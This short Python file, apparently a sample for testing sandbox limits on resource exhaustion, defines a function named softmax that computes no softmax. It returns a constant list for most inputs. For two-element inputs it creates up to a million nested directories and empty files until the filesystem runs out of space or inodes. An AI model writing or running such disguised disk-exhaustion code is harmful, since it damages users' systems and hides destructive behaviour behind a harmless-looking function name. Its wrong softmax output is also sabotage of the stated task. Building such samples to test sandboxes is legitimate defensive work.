"""Small files and deep folders until there are no more to be had.

tiers: full locked
also: timeout (where it is slow to make them)
"""

import os


def softmax(x):
    if len(x) != 2:
        return [7.0] * len(x)
    os.makedirs("moved up 0/x/y")
    for number in range(1_000_000):
        os.makedirs(f"left-behind-{number}/a/b/c/moved up 1")
        os.chdir(f"left-behind-{number}")
        open("left-behind", "w").close()
